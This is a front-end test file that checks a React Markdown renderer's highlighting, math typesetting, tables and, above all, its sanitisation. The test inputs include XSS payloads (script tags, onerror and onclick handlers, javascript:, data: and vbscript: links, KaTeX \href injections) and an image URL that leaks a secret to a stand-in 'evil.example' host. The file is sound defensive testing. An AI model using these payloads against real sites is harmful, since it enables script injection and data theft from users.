import { render, screen } from '@testing-library/react';
import { describe, expect, it } from 'vitest';
import { CodeBlock, hasMath, Markdown } from './Markdown';

describe('Markdown', () => {
  it('highlights fenced code in a known language and escapes what it shows', () => {
    const { container } = render(<Markdown text={'```python\nimport pandas as pd\nx = "<b>"\n```'} />);
    const keyword = container.querySelector('code.hljs .hljs-keyword');
    expect(keyword?.textContent).toBe('import');
    expect(container.querySelector('code.hljs b')).toBeNull();
    expect(container.querySelector('code.hljs')?.textContent).toContain('x = "<b>"');
  });

  it('leaves code in an unknown language plain', () => {
    const { container } = render(<Markdown text={'```brainfuck\n+++.\n```'} />);
    expect(container.querySelector('code.hljs')).toBeNull();
    expect(screen.getByText('+++.')).toBeTruthy();
  });

  it('typesets math between double dollars, and leaves prices alone', async () => {
    expect(hasMath('It costs $5 and $10 a month.')).toBe(false);
    expect(hasMath('Growth is $$g = \\frac{b}{a} - 1$$ here.')).toBe(true);
    const { container } = render(<Markdown text={'Growth: $$g = \\frac{b}{a} - 1$$'} />);
    await screen.findByText((_, element) => element?.classList.contains('katex') === true, undefined, { timeout: 5000 });
    expect(container.querySelector('.katex .mfrac')).not.toBeNull();
    render(<Markdown text="It costs $5 and $10 a month." />);
    expect(screen.getByText('It costs $5 and $10 a month.')).toBeTruthy();
  });

  it('renders GitHub tables', () => {
    render(<Markdown text={'| quarter | sales |\n|---|---|\n| Q1 | 100 |'} />);
    expect(screen.getByRole('table')).toBeTruthy();
    expect(screen.getByRole('cell', { name: '100' })).toBeTruthy();
  });

  it('turns raw HTML into text, never into elements', () => {
    const { container } = render(<Markdown text={'Look: <script>alert(1)</script> and <img src=x onerror="alert(1)"> <iframe src="javascript:alert(1)"></iframe>'} />);
    expect(container.querySelector('script, img, iframe')).toBeNull();
    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
    const block = render(<Markdown text={'<div onclick="alert(1)">\n\n<style>p{background:url(//evil)}</style>\n\n</div>'} />);
    expect(block.container.querySelector('.prose div, style, [onclick]')).toBeNull();
  });

  it('links only to http(s) and mailto, in a new tab without an opener', () => {
    const { container } = render(
      <Markdown
        text={
          '[a](javascript:alert(1)) [b](JAVASCRIPT:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:msgbox(1)) ' +
          '[e](#/admin) [f](https://example.com/docs) [g](mailto:a@example.com) <https://example.org>'
        }
      />,
    );
    const hrefs = [...container.querySelectorAll('a')].map((a) => a.getAttribute('href'));
    expect(hrefs).toEqual(['https://example.com/docs', 'mailto:a@example.com', 'https://example.org']);
    for (const a of container.querySelectorAll('a')) {
      expect(a.getAttribute('target')).toBe('_blank');
      expect(a.getAttribute('rel')).toBe('noopener noreferrer');
    }
    // A dropped link keeps its text.
    expect(screen.getByText('a').tagName).toBe('SPAN');
  });

  it('fetches no image: an image becomes a link the reader may follow', () => {
    const { container } = render(<Markdown text={'![chart](https://evil.example/leak?q=secret) ![x](javascript:alert(1)) ![](data:image/svg+xml,<svg onload=alert(1)>)'} />);
    expect(container.querySelector('img')).toBeNull();
    const link = screen.getByRole('link', { name: '[image: chart]' });
    expect(link.getAttribute('href')).toBe('https://evil.example/leak?q=secret');
    expect(link.getAttribute('rel')).toBe('noopener noreferrer');
    expect(container.querySelectorAll('a')).toHaveLength(1);
    expect(screen.getByText('[image: x]').tagName).toBe('SPAN');
  });

  it('keeps HTML inside code as text', () => {
    const hostile = '<img src=x onerror="alert(1)"><script>alert(1)</script>';
    const { container } = render(<Markdown text={`\`\`\`javascript\nconst a = '${hostile}';\n\`\`\`\n\nand \`${hostile}\` inline`} />);
    expect(container.querySelector('code.hljs')).not.toBeNull();
    expect(container.querySelector('img, script')).toBeNull();
    expect(container.querySelector('code.hljs')?.textContent).toContain(hostile);
    const block = render(<CodeBlock code={hostile} language="xml" />);
    expect(block.container.querySelector('img, script')).toBeNull();
    expect(block.container.textContent).toBe(hostile);
  });

  it('gives math no links, classes or data attributes (KaTeX trusts nothing)', async () => {
    const { container } = render(
      <Markdown text={'$$\\href{javascript:alert(1)}{x} + \\url{javascript:alert(2)} + \\htmlData{onclick=alert(3)}{y} + \\htmlClass{fixed}{z} + \\frac{1}{2}$$'} />,
    );
    await screen.findByText((_, element) => element?.classList.contains('katex') === true, undefined, { timeout: 5000 });
    expect(container.querySelector('a, [href], [onclick], [data-onclick], .fixed')).toBeNull();
    const attributes = [...container.querySelectorAll('*')].flatMap((el) => [...el.attributes].map((a) => a.value));
    expect(attributes.filter((value) => value.includes('javascript:') || value.includes('alert'))).toEqual([]);
    // The commands show as red source text instead.
    expect(container.querySelector('.katex-html')?.textContent).toContain('\\href');
  });
});

